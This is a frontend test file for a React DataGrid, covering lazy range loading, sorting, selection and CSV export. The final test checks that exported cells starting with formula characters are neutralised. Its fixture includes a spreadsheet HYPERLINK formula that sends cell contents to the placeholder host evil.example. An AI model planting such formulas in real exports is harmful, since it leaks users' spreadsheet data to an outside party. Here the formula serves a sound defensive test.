import type { GridState } from '@fathom/contract';
import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { renderWithProviders } from '../../test/render';
import { DataGrid } from './DataGrid';
import { keywordColumns, stubElementSizes, type Keyword } from './grid-test-setup';
import type { GridDataSource } from './use-range-rows';

const columns = keywordColumns();
const keywordAt = (index: number): Keyword => ({ keyword: `kw ${index}`, volume: index * 10 });

/** A server of `rowCount` keywords whose answers the test releases. */
function serverSource(rowCount: number) {
  const calls: { start: number; end: number; state: GridState; release: () => void }[] = [];
  const loadRange = vi.fn(
    (start: number, end: number, state: GridState) =>
      new Promise<Keyword[]>((resolve) => {
        const rows = Array.from({ length: end - start }, (_, offset) => keywordAt(start + offset));
        calls.push({ start, end, state, release: () => resolve(rows) });
      }),
  );
  const source: GridDataSource<Keyword> = { rowCount, loadRange };
  return { source, calls, ranges: () => calls.map((call) => [call.start, call.end]) };
}

stubElementSizes();

let downloads: Blob[] = [];
beforeEach(() => {
  downloads = [];
  vi.stubGlobal('URL', {
    ...URL,
    createObjectURL: (blob: Blob) => {
      downloads.push(blob);
      return 'blob:export';
    },
    revokeObjectURL: () => undefined,
  });
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
});
afterEach(() => {
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

const bodyRows = () => within(screen.getByRole('grid')).getAllByRole('row').slice(1);
const downloadedLines = async () =>
  (await downloads[0]!.text()).replace(/^\uFEFF/, '').split('\r\n');

function renderSource(source: GridDataSource<Keyword>, extra = {}) {
  return renderWithProviders(
    <DataGrid
      label="Keywords"
      columns={columns}
      source={source}
      getRowId={(row) => row.keyword}
      exportFileName="keywords.csv"
      {...extra}
    />,
  );
}

// Hundreds of rows in the test DOM on a shared machine: queries over them take seconds.
describe('DataGrid with a server source', () => {
  it('loads only the ranges on screen and shows loading rows until they arrive', async () => {
    const server = serverSource(1000);
    renderSource(server.source, { selectable: false });
    await waitFor(() => expect(server.ranges()).toEqual([[0, 50]]));
    expect(screen.getAllByTestId('grid-loading-row').length).toBeGreaterThan(0);
    expect(screen.queryByText('kw 0')).toBeNull();

    act(() => server.calls[0]!.release());
    expect(await screen.findByText('kw 0')).toBeTruthy();
    expect(screen.queryAllByTestId('grid-loading-row')).toHaveLength(0);
    expect(screen.getByText('1,000 rows')).toBeTruthy();

    const grid = screen.getByRole('grid');
    act(() => {
      grid.scrollTop = 600 * 25;
      fireEvent.scroll(grid);
    });
    await waitFor(() =>
      expect(server.ranges()).toEqual([
        [0, 50],
        [550, 600],
        [600, 650],
      ]),
    );
    act(() => server.calls.slice(1).forEach((call) => call.release()));
    expect(await screen.findByText('kw 600')).toBeTruthy();
  });

  it('asks the source again, from the top, in the new sort', async () => {
    const server = serverSource(1000);
    renderSource(server.source);
    await waitFor(() => expect(server.calls).toHaveLength(1));
    act(() => server.calls[0]!.release());
    await screen.findByText('kw 0');

    fireEvent.click(screen.getByRole('button', { name: 'Volume' }));
    await waitFor(() => expect(server.calls).toHaveLength(2));
    expect(server.calls[1]).toMatchObject({
      start: 0,
      end: 50,
      state: { sorting: [{ id: 'volume', desc: false }] },
    });
    expect(screen.queryByText('kw 0')).toBeNull();
  });

  it('selects all matching rows except those unticked, loaded or not', async () => {
    const server = serverSource(1000);
    const onSelectionChange = vi.fn();
    renderSource(server.source, { onSelectionChange });
    await waitFor(() => expect(server.calls).toHaveLength(1));
    act(() => server.calls[0]!.release());
    await screen.findByText('kw 0');

    fireEvent.click(screen.getByLabelText('Select all rows'));
    expect(screen.getByText('1,000 rows · 1,000 selected')).toBeTruthy();
    fireEvent.click(screen.getByLabelText('Select row 2'));
    expect(screen.getByText('1,000 rows · 999 selected')).toBeTruthy();
    expect(onSelectionChange).toHaveBeenLastCalledWith({
      mode: 'allExcept',
      except: ['kw 1'],
      total: 1000,
    });
    expect(bodyRows()[0]?.getAttribute('aria-selected')).toBe('true');
    expect(bodyRows()[1]?.getAttribute('aria-selected')).toBe('false');
  });

  it('exports every matching row from the source, not only the loaded ones', async () => {
    const server = serverSource(1000);
    renderSource(server.source);
    await waitFor(() => expect(server.calls).toHaveLength(1));
    act(() => server.calls[0]!.release());
    await screen.findByText('kw 0');

    fireEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
    await waitFor(() => expect(server.calls).toHaveLength(2));
    expect(server.ranges()[1]).toEqual([0, 1000]);
    act(() => server.calls[1]!.release());
    await waitFor(() => expect(downloads).toHaveLength(1));
    const lines = await downloadedLines();
    expect(lines).toHaveLength(1001);
    expect(lines[0]).toBe('Keyword,Volume');
    expect(lines[1000]).toBe('kw 999,9990');
  });
});

describe('DataGrid with rows in memory', () => {
  it('exports every row matching the filter, not only the rows on screen', async () => {
    const data = Array.from({ length: 500 }, (_, index) => keywordAt(index));
    renderWithProviders(
      <DataGrid
        label="Keywords"
        columns={columns}
        data={data}
        getRowId={(row) => row.keyword}
        getSearchText={(row) => row.keyword}
        exportFileName="keywords.csv"
      />,
    );
    fireEvent.change(screen.getByLabelText('Filter'), { target: { value: 'kw 1' } });
    await waitFor(() => expect(screen.getByText('111 of 500 rows')).toBeTruthy());
    expect(bodyRows().length).toBeLessThan(111);

    fireEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
    await waitFor(() => expect(downloads).toHaveLength(1));
    const lines = await downloadedLines();
    expect(lines).toHaveLength(112);
    expect(lines.slice(1, 3)).toEqual(['kw 1,10', 'kw 10,100']);
  });
});

describe('DataGrid CSV export of keywords that look like formulas', () => {
  it('writes them as text a spreadsheet does not run', async () => {
    const data: Keyword[] = [
      { keyword: '=hyperlink("http://evil.example/?leak="&a2,"click")', volume: 1 },
      { keyword: '+1+1', volume: 2 },
      { keyword: '@sum(1,1)', volume: 3 },
      { keyword: '-2', volume: -4 },
    ];
    renderWithProviders(
      <DataGrid
        label="Keywords"
        columns={columns}
        data={data}
        getRowId={(row) => row.keyword}
        exportFileName="keywords.csv"
      />,
    );
    fireEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
    await waitFor(() => expect(downloads).toHaveLength(1));
    expect((await downloadedLines()).slice(1)).toEqual([
      `"'=hyperlink(""http://evil.example/?leak=""&a2,""click"")",1`,
      "'+1+1,2",
      `"'@sum(1,1)",3`,
      "'-2,-4",
    ]);
  });
});
